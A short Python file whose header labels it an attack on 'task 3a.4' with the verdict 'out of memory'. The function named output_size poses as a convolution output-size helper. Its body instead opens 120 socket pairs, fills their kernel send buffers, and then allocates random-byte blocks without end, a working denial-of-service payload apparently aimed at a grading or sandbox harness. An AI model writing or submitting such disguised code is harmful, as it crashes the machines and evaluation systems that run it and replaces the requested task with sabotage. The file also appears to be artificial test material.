# attack: fills the kernel's buffers of a hundred sockets
# task: 3a.4
# verdict: out of memory

import os
import socket


def output_size(size, kernel_size, stride, padding):
    kept = []
    for _ in range(120):
        one, other = socket.socketpair()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
        one.setblocking(False)
        kept += [one, other]
        try:
            while True:
                one.send(b"x" * 2**20)
        except BlockingIOError:
            pass
    while True:
        kept.append(os.urandom(2**20) * 16)
